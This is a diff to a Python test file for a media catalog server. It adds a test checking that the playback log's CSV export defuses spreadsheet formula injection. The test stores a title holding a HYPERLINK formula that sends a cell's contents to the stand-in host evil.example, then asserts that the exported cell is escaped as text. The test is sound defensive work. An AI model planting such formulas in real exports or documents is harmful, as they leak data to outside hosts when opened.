@@ -3,6 +3,8 @@ terminal lines (text and JSON), the playback log page, its JSON and CSV twins.""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 from contextlib import closing
@@ -11,6 +13,7 @@ from pathlib import Path
 
 import httpx
 import pytest
+from sqlalchemy import select
 from yj_testing import make_settings, running_server, sign_in
 
 from catalog.db import Database
@@ -132,3 +135,29 @@ def test_a_signed_in_member_and_a_station_terminal_are_named_in_the_playback(
     assert sorted((str(d["member"]), d["station"]) for d in opened) == [
         ("None", "CG-001"), ("None", "XC-012"), ("user:zhangsan", "XC-012")]
     assert sorted(p["station"] for p in found) == ["CG-001", "XC-012", "XC-012"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+def test_the_csv_export_runs_no_formula_from_a_title(
+        db: Database, settings: Settings, demo_library: Path) -> None:
+    from sqlalchemy import update
+
+    from catalog.models import Item
+
+    Scanner(db, settings).scan([demo_library])
+    with db.transaction() as session:
+        first = session.scalars(select(Item).order_by(Item.id)).first()
+        assert first is not None
+        session.execute(update(Item).where(Item.id == first.id).values(title=FORMULA))
+        item_id = first.id
+    with running_server(served_settings(settings), db) as url, \
+            httpx.Client(base_url=url) as client:
+        client.get(f"/stream/{item_id}", headers={"Range": "bytes=0-99"})
+        with closing(inspector(url, db)) as staff:
+            wait_closed(staff, 1)
+            csv_text = staff.get("/api/playbacks?format=csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    assert rows[1][3] == "'" + FORMULA  # shown as text, never run
+    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
